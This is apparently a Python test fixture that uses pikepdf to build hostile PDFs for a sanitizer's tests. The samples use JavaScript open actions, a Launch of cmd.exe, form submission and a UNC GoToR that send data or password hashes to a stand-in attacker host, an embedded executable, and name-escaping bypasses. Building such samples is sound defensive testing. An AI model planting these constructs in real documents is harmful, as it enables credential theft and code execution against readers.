"""A corpus of hostile PDFs, built here with pikepdf, and a walk that finds what acts in one.

Each document has a page (so it is a document a reader opens) and does something when it is
opened, clicked or looked at, each a different way, including the ways the first check was
bypassed: ``/S`` written as an indirect object, a ``/GoToR`` to a UNC path (a Windows
reader sends the user's password hash to that host), a ``/URI`` open action.
"""

from __future__ import annotations

import io
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.documents import ATTACKER


def _new() -> Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    return pdf


def _save(pdf: Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _js(pdf: Pdf, script: str = "app.alert('attacker.example')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(script))


def _link(pdf: Pdf, **entries: Any) -> Any:
    """A link annotation over the whole page, added to the first page."""
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 595, 842]), **entries)
    )
    pdf.pages[0].obj[Name.Annots] = Array([annot])
    return annot


def _embedded(pdf: Pdf) -> Any:
    data = Stream(pdf, b"MZ\x90\x00 cmd.exe payload")
    data[Name.Type] = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Filespec, F=String("virus.exe"), UF=String("virus.exe"), EF=Dictionary(F=data)
        )
    )


def hostile_pdfs() -> dict[str, bytes]:
    """Name → PDF bytes."""
    found: dict[str, bytes] = {}

    pdf = _new()
    pdf.Root.OpenAction = _js(pdf)
    found["javascript_open_action"] = _save(pdf)

    pdf = _new()  # the bypass: /S as an indirect object
    pdf.Root.OpenAction = Dictionary(
        S=pdf.make_indirect(Name.Launch), F=String("cmd.exe"), P=String("/c calc")
    )
    _link(
        pdf,
        A=Dictionary(
            S=pdf.make_indirect(Name.SubmitForm),
            F=Dictionary(FS=Name.URL, F=String(f"https://{ATTACKER}/x")),
        ),
    )
    found["indirect_s_launch_and_submit"] = _save(pdf)

    pdf = _new()
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoToR, F=String(f"\\\\{ATTACKER}\\share\\x.pdf"), D=Array([0, Name.Fit])
    )
    found["gotor_unc_path"] = _save(pdf)

    pdf = _new()
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=Name.URI, URI=String(f"https://{ATTACKER}/t"))
    )
    found["uri_open_action"] = _save(pdf)

    pdf = _new()
    _link(
        pdf,
        Dest=Array([pdf.pages[0].obj, Name.Fit]),
        AA=Dictionary(E=_js(pdf), X=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    )
    found["annotation_additional_actions"] = _save(pdf)

    pdf = _new()
    spec = _embedded(pdf)
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("virus.exe"), spec])))
    pdf.Root.AF = Array([spec])
    pdf.pages[0].obj[Name.Annots] = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=Array([10, 10, 30, 30]),
                    FS=spec,
                    Contents=String("Åbn mig"),
                )
            )
        ]
    )
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoToE, NewWindow=True, T=Dictionary(R=Name.C, N=String("virus.exe"))
    )
    found["embedded_file"] = _save(pdf)

    pdf = _new()  # a form with a button that sends the fields to the attacker
    button = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T=String("send"),
            Rect=Array([10, 10, 110, 40]),
            P=pdf.pages[0].obj,
            A=Dictionary(
                S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"https://{ATTACKER}/f"))
            ),
        )
    )
    text = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("Emma"),
            Rect=Array([10, 50, 200, 70]),
            P=pdf.pages[0].obj,
            AA=Dictionary(K=_js(pdf)),
        )
    )
    pdf.pages[0].obj[Name.Annots] = Array([button, text])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([button, text]), NeedAppearances=True, DA=String("/Helv 0 Tf 0 g")
    )
    found["acroform_submit_button"] = _save(pdf)

    pdf = _new()
    xfa = Stream(pdf, b"<xdp:xdp><script>app.alert('attacker.example')</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_indirect(xfa))
    pdf.Root.NeedsRendering = True
    found["xfa_form"] = _save(pdf)

    pdf = _new()
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("start"), pdf.make_indirect(_js(pdf))]))
    )
    found["javascript_in_names_tree"] = _save(pdf)

    pdf = _new()
    pdf.pages[0].obj[Name.AA] = Dictionary(
        O=_js(pdf), C=Dictionary(S=Name.URI, URI=String(f"https://{ATTACKER}/closed"))
    )
    found["page_additional_actions"] = _save(pdf)

    pdf = _new()  # a harmless internal link whose chained action is not harmless
    _link(
        pdf,
        A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([_js(pdf)])),
    )
    found["goto_with_next_javascript"] = _save(pdf)

    pdf = _new()  # a bookmark that starts a program
    item = pdf.make_indirect(
        Dictionary(
            Title=String("Indhold"),
            A=Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"))),
        )
    )
    pdf.Root.Outlines = pdf.make_indirect(
        Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1)
    )
    item.Parent = pdf.Root.Outlines
    found["outline_launch"] = _save(pdf)

    # The JavaScript open action with its names #-escaped (/#4A#53 is /JS).
    escaped = found["javascript_open_action"].replace(b"/JavaScript", b"/J#61vaScript")
    found["escaped_names"] = escaped.replace(b"/JS ", b"/#4A#53 ")
    return found


def internal_link_pdf() -> bytes:
    """Two pages, the first linking to the second: what a plain /GoTo is kept for."""
    pdf = _new()
    pdf.add_blank_page(page_size=(595, 842))
    _link(pdf, A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))
    return _save(pdf)
